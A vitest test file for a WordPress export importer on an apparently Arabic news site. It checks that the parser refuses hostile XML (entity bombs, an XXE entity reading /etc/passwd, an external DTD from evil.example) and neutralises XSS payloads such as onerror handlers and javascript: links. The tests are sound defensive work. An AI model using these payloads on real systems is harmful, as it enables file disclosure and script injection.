import fc from "fast-check"
import { describe, expect, test } from "vitest"
import { bodyText } from "@/lib/articles/body"
import { bodySchema } from "@/lib/articles/body-schema"
import { sampleWxr, wxr, wxrHead, wxrTail } from "@/prisma/seed/wxr"
import { bodyOfContent, lineOfMarkup } from "./content"
import { formerPath, formerPathOf } from "./former-path"
import { postOf, timeOf, type Site } from "./post"
import { readWxr, type Item, type Piece } from "./wxr"

async function* inParts(bytes: Buffer, size: number) {
  for (let at = 0; at < bytes.length; at += size) yield bytes.subarray(at, at + size)
}
async function read(text: string | Buffer, size = 50_000): Promise<Piece[]> {
  const pieces: Piece[] = []
  for await (const piece of readWxr(inParts(Buffer.from(text), size))) pieces.push(piece)
  return pieces
}
const itemsOf = (pieces: readonly Piece[]) => pieces.flatMap((piece) => (piece.what === "item" ? [piece.item] : []))
const one = async (post: Parameters<typeof wxr>[0][number]): Promise<Item> => {
  const [item] = itemsOf(await read(wxr([post])))
  if (!item) throw new Error("no item")
  return item
}

describe("the file", () => {
  test("is read the same in whatever parts it comes", async () => {
    const whole = await read(sampleWxr())
    expect(whole.filter(({ what }) => what === "item")).toHaveLength(11)
    for (const size of [1, 7, 4_096]) expect(await read(sampleWxr(), size)).toEqual(whole)
  })

  const laughs = '<!DOCTYPE rss [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'
  const item = "<item><title>&b;</title></item>"
  test.each<[what: string, text: string | Buffer, fault: string]>([
    ["a thousand laughs", wxrHead().replace("<rss", `${laughs}<rss`) + item + wxrTail, "doctype"],
    ["a file of the machine", wxrHead().replace("<rss", '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss') + wxrTail, "doctype"],
    ["a parameter's entity", wxrHead().replace("<rss", '<!DOCTYPE rss [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><rss') + wxrTail, "doctype"],
    ["an entity without its type", `${wxrHead()}<item><title>&nbsp;&x;</title></item>${wxrTail}`, "entity"],
    ["a hundred thousand elements in one another", `${wxrHead()}${"<a>".repeat(100_000)}`, "too_deep"],
    ["an element that never ends", `${wxrHead()}<item><content:encoded><![CDATA[${"س".repeat(5 * 2 ** 20)}`, "too_long"],
    ["an article under more names than there are", `${wxrHead()}<item>${'<category domain="post_tag" nicename="t">x</category>'.repeat(1_100)}</item>${wxrTail}`, "too_many"],
    ["an article longer than all its texts may be", `${wxrHead()}<item>${`<wp:postmeta><wp:meta_key>a</wp:meta_key><wp:meta_value>${"س".repeat(4_000_000)}</wp:meta_value></wp:postmeta>`.repeat(5)}</item>${wxrTail}`, "too_long"],
    ["what says windows-1256", Buffer.from('<?xml version="1.0" encoding="windows-1256"?><rss/>'), "encoding"],
    ["windows-1256 that says UTF-8", Buffer.concat([Buffer.from(wxrHead()), Buffer.from([0xe3, 0xc7, 0xc1]), Buffer.from(wxrTail)]), "not_utf8"],
    ["letters longer than they may be", Buffer.concat([Buffer.from(wxrHead()), Buffer.from([0xc0, 0xaf]), Buffer.from(wxrTail)]), "not_utf8"],
    ["UTF-16 that says nothing", Buffer.from(sampleWxr(), "utf16le"), "encoding"],
    ["UTF-16 with its mark", Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(sampleWxr(), "utf16le")]), "encoding"],
    ["0xFF and no more", Buffer.alloc(1_000, 0xff), "not_utf8"],
    ["nothing", "", "not_wxr"],
    ["a page", "<html><body>x</body></html>", "not_wxr"],
    ["another feed", "<rss><channel><title>x</title></channel></rss>", "not_wxr"],
    ["a file that was cut", sampleWxr().slice(0, -40), "broken"],
    ["tags that cross", `${wxrHead()}<item><title></item></title>${wxrTail}`, "broken"],
  ])("%s is refused", async (_, text, fault) => {
    await expect(read(text)).rejects.toMatchObject({ fault })
  })
})

const text = (content: string) => bodyText(bodyOfContent(content).body)
const codes = (content: string) => bodyOfContent(content).losses.map(({ code }) => code)

describe("a text", () => {
  test("of blocks becomes ours", () => {
    const { body } = bodyOfContent("<!-- wp:heading --><h2>عنوان</h2><!-- /wp:heading -->\n<!-- wp:paragraph -->\n<p>فقرة <em>مائلة</em><br>وسطر</p>\n<!-- /wp:paragraph -->\n<!-- wp:quote --><blockquote><p>قول</p></blockquote><!-- /wp:quote -->")
    expect(body.content).toEqual([
      { type: "heading", attrs: { level: 2 }, content: [{ type: "text", text: "عنوان" }] },
      { type: "paragraph", content: [{ type: "text", text: "فقرة " }, { type: "text", text: "مائلة", marks: [{ type: "italic" }] }, { type: "hardBreak" }, { type: "text", text: "وسطر" }] },
      { type: "blockquote", content: [{ type: "paragraph", content: [{ type: "text", text: "قول" }] }] },
    ])
  })

  test("of the classic editor has its paragraphs and lines", () => {
    expect(bodyOfContent("أول\nثانٍ\n\n\nفقرة <b>ثانية</b>\n\n<blockquote>قول\n\nوقول</blockquote>").body.content).toEqual([
      { type: "paragraph", content: [{ type: "text", text: "أول" }, { type: "hardBreak" }, { type: "text", text: "ثانٍ" }] },
      { type: "paragraph", content: [{ type: "text", text: "فقرة " }, { type: "text", text: "ثانية", marks: [{ type: "bold" }] }] },
      { type: "blockquote", content: [{ type: "paragraph", content: [{ type: "text", text: "قول" }] }, { type: "paragraph", content: [{ type: "text", text: "وقول" }] }] },
    ])
  })

  test("loses pictures and forms, keeps every word, and says so", () => {
    expect(text('[caption width="3"]<img src="a.jpg"> قارب[/caption]بعده')).toBe("قارب\nبعده")
    expect(codes('[caption width="3"]<img src="a.jpg"> قارب[/caption]')).toEqual(["caption", "picture"])
    expect(text("[1] و[كذا] و[sic] تبقى")).toBe("[1] و[كذا] و[sic] تبقى")
    expect(text('[vc_row][vc_column width="1/2"]في عمود[/vc_column][/vc_row]')).toBe("في عمود")
    expect(text("<button>اضغط</button> <select><option>أ</option></select><table><tr><td>خلية</td><td>وأخرى</td></tr></table>")).toContain("خلية")
    expect(bodyOfContent('<iframe src="//video.example/embed/1"></iframe>').body.content).toEqual([
      { type: "paragraph", content: [{ type: "text", text: "//video.example/embed/1".replace("//", "https://"), marks: [{ type: "link", attrs: { href: "https://video.example/embed/1" } }] }] },
    ])
    expect(bodyOfContent('<p style="display:none">كلام مخفي</p>ظاهر').losses).toEqual([{ code: "hidden", detail: "كلام مخفي" }])
    expect(text("<!--more-->بعد الفاصل<!--nextpage-->")).toBe("بعد الفاصل")
  })

  test.each([
    "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", '<a href="java&#10;script:alert(1)">نص</a>', '<a href="https://user:pass@evil.example/">نص</a>', "<xmp><script></xmp>",
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "\u0000\uD800نص", "<plaintext>نص<p>",
    `${"<div>".repeat(5_000)}عميق`, `${"<ul><li>".repeat(500)}عميق`, "x".repeat(1_200_000), `[a b="${"[".repeat(5_000)}`, "<p>س</p>".repeat(9_000),
  ])("that is hostile gives a body of the closed schema: %#", (content) => {
    const { body } = bodyOfContent(content)
    expect(bodySchema.safeParse(body).success).toBe(true)
    expect(JSON.stringify(body)).not.toMatch(/onerror|javascript:|"type":"(?!doc|text|paragraph|heading|hardBreak|horizontalRule|blockquote|bulletList|orderedList|listItem|bold|italic|link)/)
  })

  test("keeps every word that readers saw, in its order", () => {
    const word = fc.stringMatching(/^[\u0621-\u064A]{1,8}$/)
    const wraps = [(s: string) => `<p>${s}</p>`, (s: string) => `<div><span>${s}</span></div>`, (s: string) => `<ul><li>${s}</li></ul>`, (s: string) => `<b>${s}</b>`,
      (s: string) => `\n\n${s}\n`, (s: string) => `<blockquote>${s}</blockquote>`, (s: string) => `<h2>${s}</h2>`, (s: string) => `[su_box title="x"]${s}[/su_box]`,
      (s: string) => `<table><tr><td>${s}</td></tr></table>`, (s: string) => `<figure><img src="x"><figcaption>${s}</figcaption></figure>`, (s: string) => `<label>${s}</label>`]
    fc.assert(fc.property(fc.array(fc.tuple(word, fc.constantFrom(...wraps)), { minLength: 1, maxLength: 20 }), (parts) => {
      const content = parts.map(([each, wrap]) => wrap(` ${each} `)).join(" ")
      expect(text(content).split(/\s+/).filter(Boolean)).toEqual(parts.map(([each]) => each))
    }))
  })

  test("a title has its signs, and no markup", () => {
    expect(lineOfMarkup("الماء &amp; <em>الهواء</em> &#8220;معًا&#8221;<script>x</script>")).toBe("الماء & الهواء “معًا”")
  })
})

describe("an article", () => {
  const site: Site = {
    categories: new Map([["a", { id: "1", nicename: "a", parent: "b", name: "أ" }], ["b", { id: "2", nicename: "b", parent: "a", name: "ب" }]]), authors: new Map(), timeZone: "Asia/Amman", now: new Date("2026-01-01T00:00:00Z"),
  }
  const post = async (fields: Partial<Parameters<typeof wxr>[0][number]>) => postOf(await one({ id: 5, title: "عنوان", content: "نص", ...fields }), site)

  test("stands where it stood", async () => {
    expect((await post({}))?.status).toBe("live")
    expect((await post({ status: "future", gmt: "2026-02-01 00:00:00" }))?.status).toBe("scheduled")
    expect((await post({ status: "future" }))?.status).toBe("live")
    expect((await post({ gmt: "2099-02-01 00:00:00" }))?.status).toBe("scheduled")
    for (const status of ["draft", "pending", "private"]) expect((await post({ status }))?.status).toBe("draft")
    expect((await post({ status: "trash" }))?.status).toBe("trashed")
    expect((await post({ password: "x" }))?.status).toBe("draft")
    for (const status of ["auto-draft", "inherit", "constructor", ""]) expect(await post({ status })).toBe(null)
    expect(await post({ gmt: "2019-02-30 00:00:00", date: "30 Feb" })).toMatchObject({ status: "draft", at: null })
  })

  test("has its time in UTC, else by the newsroom's clock", () => {
    expect(timeOf({ dateGmt: "2019-05-04 07:30:00", date: "x", pubDate: "" }, "Asia/Amman")?.toISOString()).toBe("2019-05-04T07:30:00.000Z")
    expect(timeOf({ dateGmt: "0000-00-00 00:00:00", date: "2019-01-04 10:30:00", pubDate: "" }, "Asia/Amman")?.toISOString()).toBe("2019-01-04T08:30:00.000Z")
    expect(timeOf({ dateGmt: "", date: "", pubDate: "Sat, 04 May 2019 07:30:00 +0000" }, "UTC")?.toISOString()).toBe("2019-05-04T07:30:00.000Z")
    expect(timeOf({ dateGmt: "", date: "0000-00-00 00:00:00", pubDate: "tomorrow" }, "UTC")).toBe(null)
  })

  test("is told where it was cut, and a circle of sections ends", async () => {
    const long = await post({ title: "كلمة ".repeat(100), excerpt: "جملة ".repeat(300), tags: Array.from({ length: 25 }, (_, n) => `وسم ${n}`), categories: [["a", "أ"]] })
    expect(long?.notes.map(({ code }) => code).sort()).toEqual(["standfirst_cut", "tags_cut", "title_cut"])
    expect([...(long?.title ?? "")].length).toBeLessThanOrEqual(300)
    expect(long?.section).toEqual(["ب", "أ"])
    expect((await post({ categories: [["uncategorized", "غير مصنف"], ["c", "ج"]], tags: ["واحد", "واحِد"] }))).toMatchObject({ section: ["ج"], tags: ["واحد"] })
  })
})

describe("an old address", () => {
  const query = new URLSearchParams()
  test("is one in every spelling", () => {
    const slug = "حين-يعود-الصيادون"
    const upper = `/2019/05/${encodeURIComponent(slug)}/`
    for (const path of [upper, upper.toLowerCase(), `/2019/05/${slug}`, `//2019/05/${encodeURIComponent(slug.normalize("NFD"))}//`, `/index.php/2019/05/${slug}`]) {
      expect(formerPath(path, query)).toBe(`/2019/05/${slug}`)
    }
    expect(formerPathOf("https://mawj.example/?p=0012&preview=true")).toBe("/?p=12")
  })

  test.each(["/", "", "/%D8%A", "/a%00b", "/a%2Fb", `/${"x".repeat(700)}`])("%s names nothing", (path) => expect(formerPath(path, query)).toBe(null))
  test.each(["javascript:alert(1)", "ftp://x/y", "no address", "https://mawj.example/"])("%s has none", (address) => expect(formerPathOf(address)).toBe(null))
  test("a number that is none is none, and on another page it is no article's", () => {
    expect(formerPath("/", new URLSearchParams("p=1e5"))).toBe(null)
    expect(formerPath("/sections/a", new URLSearchParams("p=5"))).toBe("/sections/a")
  })
})
